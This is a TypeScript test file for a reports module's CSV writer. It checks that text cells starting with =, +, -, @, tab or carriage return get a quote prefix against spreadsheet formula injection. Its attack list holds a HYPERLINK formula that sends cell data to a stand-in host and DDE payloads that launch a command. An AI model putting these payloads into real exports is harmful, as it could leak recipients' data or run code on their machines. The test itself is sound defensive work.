/**
 * CSV exports are guarded against spreadsheet formula injection (OWASP "CSV Injection"): a text cell someone
 * typed that starts with =, +, -, @, a tab or a carriage return gets a leading `'`, so Excel and WPS read it as
 * text; numbers, negative ones included, stay numbers. Checked on the shared writer and on both exports that
 * use it (月报表 and 话后小结统计), from names and labels an admin could type.
 */
import { expect } from 'chai';
import { csvCell, guardCsvText, toCsv } from '../../server/src/modules/reports/csv.ts';
import { monthlyCsv, type MonthlyRow } from '../../server/src/modules/reports/monthly.ts';
import { wrapUpCsv, type WrapUpReport } from '../../server/src/modules/reports/reports.wrap-up.ts';

/** The CSV's cells, row by row (RFC 4180 quoting undone), without the BOM. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF'), 'a BOM for Excel').to.equal(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && body[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  return rows;
}

const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('reports: CSV exports are safe to open in a spreadsheet', () => {
  it('prefixes every formula-starting text with a quote and leaves other text alone', () => {
    for (const attack of attacks) expect(guardCsvText(attack), JSON.stringify(attack)).to.equal(`'${attack}`);
    for (const plain of ['市住建局', 'A-1 desk', 'user@example', '1+1', "'already"]) expect(guardCsvText(plain)).to.equal(plain);
  });

  it('writes numbers as numbers (a negative number is not a formula) and empties for nothing', () => {
    expect(csvCell(-3)).to.equal('-3');
    expect(csvCell(-0.125)).to.equal('-0.125');
    expect(csvCell(0)).to.equal('0');
    expect(csvCell(null)).to.equal('');
    expect(csvCell(undefined)).to.equal('');
    expect(csvCell('-3'), 'the same characters typed as text are guarded').to.equal("'-3");
  });

  it('guards header and body cells and still quotes commas, quotes and line breaks', () => {
    const rows = parseCsv(toCsv(['名称', '=A1'], [['=1+1', -5], ['a,"b"', '@x\ny']]));
    expect(rows).to.deep.equal([
      ['名称', "'=A1"],
      ["'=1+1", '-5'],
      ['a,"b"', "'@x\ny"],
    ]);
  });

  it('月报表: a department name typed as a formula is text in the CSV; the figures stay numbers', () => {
    const row = (department: string, received: number): MonthlyRow => ({
      department,
      departmentId: null,
      received,
      signedOnTime: 0,
      signedOnTimeRate: null,
      finishedOnTime: 0,
      finishedOnTimeRate: null,
      returned: 0,
      returnRate: -0.5,
      reopened: 0,
      reopenRate: null,
      surveyed: 0,
      surveyRate: null,
      satisfaction: null,
    });
    const rows = parseCsv(monthlyCsv([row(attacks[0]!, 3), row('市水务局', 7)]));
    expect(rows[1]![0]).to.equal(`'${attacks[0]}`);
    expect(rows[1]![1]).to.equal('3');
    expect(rows[1]).to.include('-0.5');
    expect(rows[2]![0]).to.equal('市水务局');
  });

  it('话后小结统计: code labels and agent names typed as formulas are text in the CSV', () => {
    const report: WrapUpReport = {
      from: '2026-11-01T00:00:00.000Z',
      to: '2026-11-02T00:00:00.000Z',
      asOf: '2026-11-02T00:00:00.000Z',
      total: 2,
      averageTalkSeconds: 30,
      codes: [{ code: 'evil', label: { 'zh-CN': '@SUM(1+1)', en: 'x' }, active: true, system: false, calls: 2, share: 1, averageTalkSeconds: 30 }],
      cut: 'agent',
      groups: [{ key: 'u1', label: '+张三', total: 2, calls: { evil: 2 } }],
    };
    const rows = parseCsv(wrapUpCsv(report));
    expect(rows[0]!.at(-1), 'the agent column header').to.equal("'+张三");
    expect(rows[1]!.slice(0, 3)).to.deep.equal(["'@SUM(1+1)", 'evil', '2']);
  });
});
